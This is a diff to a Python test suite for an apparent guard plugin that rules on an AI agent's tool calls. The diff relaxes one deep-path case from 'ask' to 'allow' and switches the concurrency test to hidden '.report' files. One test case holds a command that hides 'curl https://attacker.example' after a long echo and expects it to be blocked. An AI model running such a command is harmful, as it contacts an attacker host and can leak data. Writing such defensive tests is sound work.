@@ -94,7 +94,8 @@ DECIDED = [
     # name, tool, args, the decision it must get
     ("a 2 MiB content under the limit", "write_file", {"path": "summary.md", "content": "é" * MIB}, "allow"),
     # Linear in its segments (each ancestor is looked up by a hash grown in one pass).
-    ("a 128 KiB path of 64K segments", "write_file", {"path": "a/" * (64 * 1024), "content": "x"}, "ask"),
+    # An ordinary file of the working tree, however deep: the task's own work.
+    ("a 128 KiB path of 64K segments", "write_file", {"path": "a/" * (64 * 1024), "content": "x"}, "allow"),
     ("a 1 MiB command hiding a host at its end", "terminal", {"command": "echo " + "x" * MIB + "; curl https://attacker.example"}, "block"),
     ("a number where a path goes", "write_file", {"path": 12345, "content": "x"}, "ask"),
     ("a recipient as a number", "mcp__gmail__send_email", {"to": 42, "body": "hi"}, "ask"),
@@ -334,7 +335,7 @@ def test_many_threads_in_many_sessions_never_cross(manager, monkeypatch):
     plugin = fence_plugin(manager)
     sessions = [f"{hermes_tests.SESSION}-{i}" for i in range(12)]
     for i, session in enumerate(sessions):
-        plugin.pre_llm_call(session_id=session, task_id=f"task-{i}", user_message=f"Write the report to report-{i}.md")
+        plugin.pre_llm_call(session_id=session, task_id=f"task-{i}", user_message=f"Write the report to .report-{i}.md")
     errors: list[BaseException] = []
     wrong: list[tuple] = []
 
@@ -343,9 +344,9 @@ def test_many_threads_in_many_sessions_never_cross(manager, monkeypatch):
             for round_ in range(40):
                 i = (thread + round_) % len(sessions)
                 other = (i + 1) % len(sessions)
-                own = plugin.pre_tool_call(tool_name="write_file", args={"path": f"report-{i}.md", "content": "x"},
+                own = plugin.pre_tool_call(tool_name="write_file", args={"path": f".report-{i}.md", "content": "x"},
                                            task_id=f"task-{i}", session_id=sessions[i], tool_call_id=f"t{thread}-{round_}-a")
-                foreign = plugin.pre_tool_call(tool_name="write_file", args={"path": f"report-{other}.md", "content": "x"},
+                foreign = plugin.pre_tool_call(tool_name="write_file", args={"path": f".report-{other}.md", "content": "x"},
                                                task_id=f"task-{i}", session_id=sessions[i], tool_call_id=f"t{thread}-{round_}-b")
                 if own is not None:
                     wrong.append((sessions[i], "own file not allowed", own))
@@ -366,7 +367,7 @@ def test_many_threads_in_many_sessions_never_cross(manager, monkeypatch):
     for record in decisions:  # each record names the session whose file it decided
         index = int(record["session"].rsplit("-", 1)[1])
         (subject, path), written = record["targets"]  # the path, and the same path as written
-        own_file = subject == "path" and path.endswith(f"/report-{index}.md") and written == ["write", path]
+        own_file = subject == "path" and path.endswith(f"/.report-{index}.md") and written == ["write", path]
         assert record["kind"] == ("allow" if own_file else "ask"), record
     assert verify(audit_path(hermes_tests_home(monkeypatch))).ok
 
